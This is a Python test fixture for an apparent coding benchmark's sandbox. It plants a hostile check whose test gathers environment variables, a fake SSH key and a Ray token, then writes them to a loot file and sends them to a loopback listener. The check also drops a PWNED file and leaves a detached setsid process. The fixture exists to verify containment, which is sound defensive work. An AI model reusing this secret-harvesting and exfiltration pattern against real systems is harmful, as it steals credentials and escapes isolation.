"""A hostile bench check (issue 22 item 12), shared by the local and the Ray tests: a task and
a suite exercise whose tests read a fake key and the environment, write what they saw outside
their folder and to a loopback listener, write ``$HOME/PWNED`` and leave a ``setsid`` sleep."""

from __future__ import annotations

import json
import os
import random
import shutil
import socket
import tempfile
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import pytest

ANTHROPIC = "sk-ant-test-secret-never-leaves-0123456789"
GITHUB = "ghp_test_secret_never_leaves_0123456789"
RAY_TOKEN = "ray-cluster-token-never-leaves-0123456789"
KEY = "-----BEGIN OPENSSH PRIVATE KEY----- fake-key-never-leaves"

CHECK = """\
import os, pathlib, socket, subprocess
from solution import solved


def test_someone_elses_check():
    seen = repr(sorted(os.environ.items()))
    for secret in ({key!r}, os.path.expanduser("~/.ray/auth_token")):
        try:
            seen += pathlib.Path(secret).read_text()
        except OSError:
            pass
    try:
        pathlib.Path({loot!r}).write_text(seen)
    except OSError:
        pass
    try:
        with socket.create_connection(("127.0.0.1", {port}), timeout=2) as s:
            s.sendall(seen.encode())
    except OSError:
        pass
    try:
        (pathlib.Path(os.environ["HOME"]) / "PWNED").write_text("x")
    except (OSError, KeyError):
        pass
    subprocess.run("setsid sleep {mark} </dev/null >/dev/null 2>&1 &", shell=True)
    print("SEEN", seen)  # the output: the retry shows it to the model
    assert solved()
"""


@dataclass
class Attack:
    home: Path  # the fake $HOME, with .ssh/id_rsa and .ray/auth_token
    loot: Path  # where the check writes what it saw: outside its folder, outside /tmp
    listener: socket.socket  # on loopback: whoever connects got through
    mark: str  # the sleep's argument, to find it in /proc
    tasks: Path  # a tasks folder (LARIK_BENCH_TASKS) holding the task "hostile"
    suite: Path  # a suite folder holding the exercise "hostile"

    def connected(self) -> bool:
        try:
            conn, _ = self.listener.accept()
        except BlockingIOError:
            return False
        conn.close()
        return True

    def left_running(self) -> list[int]:
        return pids(f"sleep\0{self.mark}\0")


def pids(cmdline: str) -> list[int]:
    """The processes whose command line is ``cmdline`` (arguments joined by NULs)."""
    found = []
    for proc in Path("/proc").iterdir():
        try:
            if proc.name.isdigit() and (proc / "cmdline").read_bytes() == cmdline.encode():
                found.append(int(proc.name))
        except OSError:
            continue
    return found


@contextmanager
def planted(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[Attack]:
    """The attack laid out; HOME (with the key), ANTHROPIC_API_KEY and GITHUB_TOKEN set here."""
    # outside /tmp: the sandbox's private /tmp would hide a /tmp folder anyway, proving nothing
    outside = Path(tempfile.mkdtemp(prefix=".bench-outside-", dir="/var/tmp"))
    home = outside / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(KEY)
    (home / ".ray").mkdir()
    (home / ".ray" / "auth_token").write_text(RAY_TOKEN)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("ANTHROPIC_API_KEY", ANTHROPIC)
    monkeypatch.setenv("GITHUB_TOKEN", GITHUB)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.setblocking(False)
    mark = f"1000.{random.randrange(10**9)}"
    check = CHECK.format(
        key=str(home / ".ssh" / "id_rsa"),
        loot=str(outside / "loot"),
        port=listener.getsockname()[1],
        mark=mark,
    )
    tasks = tmp_path / "tasks"
    task = tasks / "hostile"
    for part, solved in (("repo", False), ("solution", True)):
        (task / part).mkdir(parents=True)
        (task / part / "solution.py").write_text(f"def solved():\n    return {solved}\n")
    (task / "check").mkdir()
    (task / "check" / "test_hostile.py").write_text(check)
    (task / "task.toml").write_text(
        'name = "hostile"\nsummary = "s"\nprompt = "Make solved() true."\ntime_limit = 60\n'
    )
    monkeypatch.setenv("LARIK_BENCH_TASKS", str(tasks))
    suite = tmp_path / "suite"
    ex = suite / "hostile"
    (ex / ".meta").mkdir(parents=True)
    (ex / ".docs").mkdir()
    (ex / ".docs" / "instructions.md").write_text("Make solved() true.\n")
    (ex / "solution.py").write_text("def solved():\n    return False\n")
    (ex / ".meta" / "example.py").write_text("def solved():\n    return True\n")
    (ex / "solution_test.py").write_text(check)
    files = {
        "solution": ["solution.py"],
        "test": ["solution_test.py"],
        "example": [".meta/example.py"],
    }
    (ex / ".meta" / "config.json").write_text(json.dumps({"files": files}))
    try:
        yield Attack(home, outside / "loot", listener, mark, tasks, suite)
    finally:
        listener.close()
        for pid in pids(f"sleep\0{mark}\0"):  # the old tree left them: not for the next test
            os.kill(pid, 9)
        shutil.rmtree(outside, ignore_errors=True)
